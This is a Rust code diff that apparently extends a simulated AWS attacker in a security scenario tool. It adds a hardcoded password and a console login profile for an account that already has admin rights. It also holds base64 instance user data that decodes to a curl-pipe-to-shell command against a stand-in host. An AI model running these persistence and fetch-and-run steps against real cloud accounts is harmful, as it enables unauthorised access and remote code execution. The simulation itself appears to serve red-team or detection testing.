@@ -11,6 +11,7 @@ use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCT
 use crate::scenario::means::{Means, REGION};
 
 const KEY_PAIR: &str = "k";
+const PASSWORD: &str = "Tr0ub4dor&3-and-more";
 const PUBLIC_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyhunterKeyhunterKeyhunterKeyhunter k";
 const USER_DATA: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLm9yZy94IHwgc2gK";
 const IMAGE: &str = "ami-0c0ffee0c0ffee0c0";
@@ -50,6 +51,9 @@ impl Attacker {
         let given = iam.attach_user_policy().user_name(OWN_USER).policy_arn(admin).send().await;
         let call = format!("aws iam attach-user-policy --user-name {OWN_USER} --policy-arn {admin}");
         self.show(&call, &given, |_| "attached".to_owned());
+        let login = iam.create_login_profile().user_name(OWN_USER).password(PASSWORD).send().await;
+        let call = format!("aws iam create-login-profile --user-name {OWN_USER} --password …");
+        self.show(&call, &login, |_| "may sign in to the console".to_owned());
         let key = iam.create_access_key().user_name(OWN_USER).send().await;
         self.show(&format!("aws iam create-access-key --user-name {OWN_USER}"), &key, |key| {
             key.access_key().map(|key| key.access_key_id().to_owned()).unwrap_or_default()
